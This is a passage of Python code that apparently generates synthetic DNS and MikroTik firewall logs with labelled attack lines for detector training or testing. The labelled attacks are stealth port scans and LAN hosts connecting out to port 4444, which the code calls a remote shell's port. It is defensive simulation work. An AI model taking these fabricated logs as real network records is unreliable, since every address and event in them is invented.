            when = time.strftime("%b %d %H:%M:%S", time.gmtime(ts))
            out += [f"{when} dnsmasq[812]: query[{qtype}] {query} from {client}", f"{when} dnsmasq[812]: forwarded {query} to 9.9.9.9",
                    f"{when} dnsmasq[812]: reply {query} is {r[15] if r[15] != '(empty)' else 'NXDOMAIN'}"]
        else:
            out.append(f"[{int(ts)}] unbound[1234:0] info: {client} {query}. {qtype} IN")
    return "\n".join(out) + "\n"


def mikrotik_log(n: int, seed: int = 0, attacks: float = 0.0, router: str = "192.168.88.1", wan: str = "ether1") -> tuple[str, np.ndarray]:
    """A MikroTik router's firewall log as its remote syslog sends it: the input chain's drops of the internet's
    SYNs and pings (prefix DROP-IN), the forward chain's logged new connections from the LAN out through source
    NAT, a login among them; and whether each line is an attack's: an `attacks` share are stealth scans (no
    flags, FIN, Xmas) and LAN hosts' connections out to a remote shell's port."""
    rng = np.random.default_rng(seed)
    lines, attack = [], np.zeros(n, dtype=bool)
    for i in range(n):
        head = f"Dec  {5 + seed} {10 + i // 3600 % 10:02d}:{i // 60 % 60:02d}:{i % 60:02d} {router} firewall,info "
        outside = f"198.51.{rng.integers(0, 255)}.{rng.integers(1, 254)}"
        inside = f"192.168.88.{rng.integers(2, 250)}"
        mac = f"4c:5e:0c:{rng.integers(16, 255):02x}:{rng.integers(16, 255):02x}:{rng.integers(16, 255):02x}"
        drop = f"DROP-IN input: in:{wan} out:(unknown 0), connection-state:new src-mac {mac}, proto"
        r = rng.random()
        if rng.random() < attacks:
            attack[i] = True
            if rng.random() < 0.7:
                body = f"{drop} TCP ({rng.choice(['', 'FIN', 'FIN,PSH,URG'])}), {outside}:{rng.integers(40000, 65535)}->203.0.113.5:{rng.integers(1, 1024)}, len 40"
            else:
                body = (f"forward: in:bridge out:{wan}, connection-state:new src-mac {mac}, proto TCP (SYN), {inside}:{rng.integers(32768, 61000)}->"
                        f"{outside}:4444, NAT ({inside}:50000->203.0.113.5:50000)->{outside}:4444, len 60")
        elif r < 0.5:
            body = f"{drop} TCP (SYN), {outside}:{rng.integers(1024, 65535)}->203.0.113.5:{rng.choice([22, 23, 445, 3389, 8291])}, len {rng.choice([40, 44, 60])}"
        elif r < 0.85:
            port = int(rng.choice([443, 443, 80]))
            body = (f"forward: in:bridge out:{wan}, connection-state:new src-mac {mac}, proto TCP (SYN), {inside}:{rng.integers(32768, 61000)}->"
                    f"{outside}:{port}, NAT ({inside}:50000->203.0.113.5:50000)->{outside}:{port}, len 60")
        else:
            body = f"{drop} ICMP (type 8, code 0), {outside}->203.0.113.5, len 84"
        lines.append(head + body)
        if i % 200 == 100:
            lines.append(f"Dec  {5 + seed} 10:00:00 {router} system,info,account user admin logged in from 192.168.88.2 via winbox")
    return "\n".join(lines) + "\n", attack
